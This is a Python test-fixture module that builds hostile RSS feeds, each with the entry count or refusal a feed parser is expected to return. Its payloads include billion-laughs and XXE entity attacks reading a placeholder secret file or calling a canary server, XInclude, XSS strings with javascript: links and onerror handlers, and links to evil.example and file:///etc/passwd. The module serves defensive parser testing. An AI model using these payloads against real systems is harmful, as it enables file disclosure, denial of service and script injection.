"""Hostile feeds, built by code, each with the verdict that is expected.

The verdict is the number of entries that are read, or None where the feed is refused. `{canary}`
stands for the address of a server, and `{secret}` for the path of a file, that nobody may touch.
"""

from __future__ import annotations

import gzip
import zlib

Verdict = int | None

HEAD = '<?xml version="1.0" encoding="utf-8"?>'
GOOD = "<item><title>Dobry wpis</title><link>https://e.example/dobry</link></item>"


def rss(inner: str, *, before: str = "") -> str:
    return f'{HEAD}{before}<rss version="2.0"><channel><title>T</title>{inner}</channel></rss>'


def item(inner: str) -> str:
    return rss(f"<item><title>A</title><link>/a</link>{inner}</item>{GOOD}")


def described(html: str) -> str:
    return item(f"<description><![CDATA[{html}]]></description>")


def _laughs() -> str:
    entities = ['<!ENTITY a0 "ha">']
    entities += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)]
    return rss("<item><title>&a11;</title></item>", before=f"<!DOCTYPE r [{''.join(entities)}]>")


def _entity(declaration: str, use: str = "&x;") -> str:
    inner = f"<item><title>A {use}</title><link>/a</link></item>"
    return rss(inner, before=f"<!DOCTYPE r [{declaration}]>")


ENTITIES: dict[str, tuple[str, Verdict]] = {
    "billion laughs": (_laughs(), 1),
    "quadratic blow-up": (_entity(f'<!ENTITY x "{"A" * 50_000}">', "&x;" * 5_000), 1),
    "entity of itself": (_entity('<!ENTITY x "&y;"><!ENTITY y "&x;">'), 1),
    "xxe of a file": (_entity('<!ENTITY x SYSTEM "file://{secret}">'), 1),
    "xxe of a path": (_entity('<!ENTITY x SYSTEM "{secret}">'), 1),
    "xxe over http": (_entity('<!ENTITY x SYSTEM "{canary}">'), 1),
    "parameter entity over http": (_entity('<!ENTITY % p SYSTEM "{canary}"> %p;', ""), 1),
    "parameter entity of a file": (_entity('<!ENTITY % p SYSTEM "file://{secret}"> %p;', ""), 1),
    "external doctype": (rss(GOOD, before='<!DOCTYPE r SYSTEM "{canary}">'), 1),
    "xinclude": (
        rss(
            '<item><title>A</title><description><xi:include href="file://{secret}" parse="text" '
            'xmlns:xi="http://www.w3.org/2001/XInclude"/></description></item>'
        ),
        1,
    ),
    "stylesheet over http": (rss(GOOD, before='<?xml-stylesheet href="{canary}"?>'), 1),
    "public entity over http": (_entity('<!ENTITY x PUBLIC "p" "{canary}">'), 1),
}

NO_FEEDS: dict[str, tuple[str, Verdict]] = {
    "body that is a path": ("{secret}", None),
    "body that is a file address": ("file://{secret}", None),
    "body that is an address": ("{canary}", None),
    "body that is a feed address": ("feed:{canary}", None),
    "nothing": ("", None),
    "spaces": (" \n" * 1000, None),
    "zeros": ("\0" * 10_000, None),
    "words": ("Witamy w bibliotece", None),
    "web page": ("<!DOCTYPE html><html><body><p>Witamy</p></body></html>", None),
    "web page with items": ("<html><body><items><a>b</a></items></body></html>", None),
    "json": ('{"version": "https://jsonfeed.org/version/1.1", "items": []}', None),
    "calendar": ("BEGIN:VCALENDAR\r\nEND:VCALENDAR", None),
    "other xml": (f"{HEAD}<svg xmlns='http://www.w3.org/2000/svg'/>", None),
    "only a declaration": (HEAD, None),
    "only a doctype": ("<!DOCTYPE rss [", None),
    "lone surrogates": ("&#xD800;&#xDFFF;", None),
}

SHAPES: dict[str, tuple[str, Verdict]] = {
    "cut in a tag": (rss(GOOD)[:-30], 1),
    "cut in an entry": (rss(GOOD)[:160], 1),
    "unclosed cdata": (rss("<item><title><![CDATA[A</title></item>") + "x" * 1000, 0),
    "wrong nesting": (rss("<item><title>A</item></title>"), 0),
    "items outside the channel": (f'{HEAD}<rss version="2.0">{GOOD}</rss>', 1),
    "two roots": (rss(GOOD) + rss(GOOD), 1),
    "undeclared prefix": (item("<foo:bar>x</foo:bar>"), 2),
    "html entities": (item("<description>a&nbsp;&ndash;&oacute;&bogus;</description>"), 2),
    "bare ampersands": (item("<description>a & b &c; d&</description>"), 2),
    "character references of nothing": (item("<description>&#0;&#x1F;&#xFFFF;</description>"), 2),
    "guid of a megabyte": (rss(f"<item><title>A</title><guid>{'x' * 10**6}</guid></item>"), 1),
    "title of a megabyte": (rss(f"<item><title>{'x ' * 500_000}</title></item>"), 1),
    "link of a megabyte": (rss(f"<item><title>A</title><link>/{'x' * 10**6}</link></item>"), 1),
    "attribute of a megabyte": (rss(f"<item><title x='{'x' * 10**6}'>A</title></item>"), 1),
    "thousand namespaces": (
        rss("".join(f'<n{i}:a xmlns:n{i}="u:{i}"/>' for i in range(1000)) + GOOD),
        1,
    ),
    "one guid for all": (
        rss("".join(f"<item><title>{n}</title><guid>0</guid></item>" for n in range(9))),
        9,
    ),
    "the same entry nine times": (rss(GOOD * 9), 1),
    "more entries than we take": (
        rss("".join(f"<item><title>{n}</title><link>/{n}</link></item>" for n in range(300))),
        200,
    ),
    "entries inside entries": (rss("<item><title>A</title>" * 50), 1),
    "too large": (rss(GOOD) + " " * 2 * 2**20, None),
    "400,000 levels": (rss("<item><title>A</title>" + "<a>" * 400_000), None),
    "100,000 empty entries": (rss("<item/>" * 100_000), None),
}

DATES: dict[str, tuple[str, Verdict]] = {
    f"date {text}": (item(f"<pubDate>{text}</pubDate>"), 2)
    for text in (
        "Mon, 01 Jan 0000 00:00:00 GMT",
        "Fri, 31 Dec 9999 23:59:59 -1200",
        "Mon, 30 Feb 2026 10:00:00 GMT",
        "Fri, 16 Oct 2026 99:99:99 GMT",
        "Fri, 16 Oct 2026 10:00:00",
        "99999999999999999999",
        "-1",
        "1 " * 50_000,
    )
}

ADDRESSES: dict[str, tuple[str, Verdict]] = {
    f"link {link}": (rss(f"<item><title>A</title><link>{link}</link></item>"), 1)
    for link in (
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "//evil.example/x",
        "http://[::1",
        "http:\\\\127.0.0.1\\",
        "http://e.example/a b",
        "../../../x",
        "mailto:a@e.example",
    )
}

BODIES: dict[str, tuple[str, Verdict]] = {
    f"body {html[:40]}": (described(html), 2)
    for html in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<a href='java&#x0a;script:alert(1)'>x</a>",
        "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<form action='//evil.example'><input onfocus=alert(1) autofocus>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<style>@import '//evil.example/x.css'</style>",
        "<p style='background:url(javascript:alert(1))'>x</p>",
        "<img srcset='https://tracker.example/x 1x' src='https://tracker.example/y'>",
        "<div>" * 1000,
        "<b" * 20_000,
        "<!" * 20_000,
        "&" * 20_000,
        "<a href='" + "x" * 50_000,
        "]]" * 1000,
    )
}

TEXTS = ENTITIES | NO_FEEDS | SHAPES | DATES | ADDRESSES | BODIES


def _bytes() -> dict[str, tuple[bytes, Verdict]]:
    good = rss(GOOD)
    return {
        "utf-16": (good.encode("utf-16"), 1),
        "utf-16 without a mark": (good.encode("utf-16-be"), 1),
        "utf-32": (good.encode("utf-32"), 1),
        "utf-16 cut in half a character": (good.encode("utf-16")[:-3], 1),
        "mark and rubbish": (b"\xef\xbb\xbf" + bytes(range(256)) * 10, None),
        "mark after spaces": (b"  \xef\xbb\xbf" + good.encode(), 1),
        "bytes of every kind inside": (good.encode() + bytes(range(256)), 1),
        "still packed with gzip": (gzip.compress(good.encode()), None),
        "still packed with deflate": (zlib.compress(good.encode()), None),
        "overlong utf-8": (good.encode().replace(b"Dobry", b"\xc0\xbc\xe0\x80\xbc"), 1),
        "zeros between the letters": (b"\0".join(bytes([b]) for b in good.encode()), 1),
        "picture": (b"\x89PNG\r\n\x1a\n" + bytes(100), None),
    }


BYTES = _bytes()
